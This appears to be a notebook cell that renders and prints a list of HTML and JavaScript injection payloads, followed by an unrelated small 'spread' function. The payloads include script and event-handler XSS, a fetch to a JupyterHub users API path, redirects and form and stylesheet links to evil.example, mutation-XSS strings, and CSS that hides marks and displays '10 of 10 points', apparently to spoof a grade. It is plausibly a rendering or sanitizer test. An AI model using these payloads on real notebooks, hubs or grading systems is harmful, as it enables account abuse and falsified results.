from IPython.display import HTML, display

for text in (
    "<script>document.title='owned'; fetch('/hub/api/users')</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><base href='http://evil.example/'>",
    "<form action='http://evil.example/'><input name=q autofocus onfocus=alert(1)></form>",
    "<style>.mark{display:none} body::before{content:'10 of 10 points'}</style><link rel=stylesheet href='http://evil.example/x.css'>",
    "</pre></div></body></html><script>alert(1)</script><!--",
    "<a href='java\tscript:alert(1)'>look</a><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
):
    display(HTML(text))
    print(text)


def spread(values):
    return max(values) - min(values)
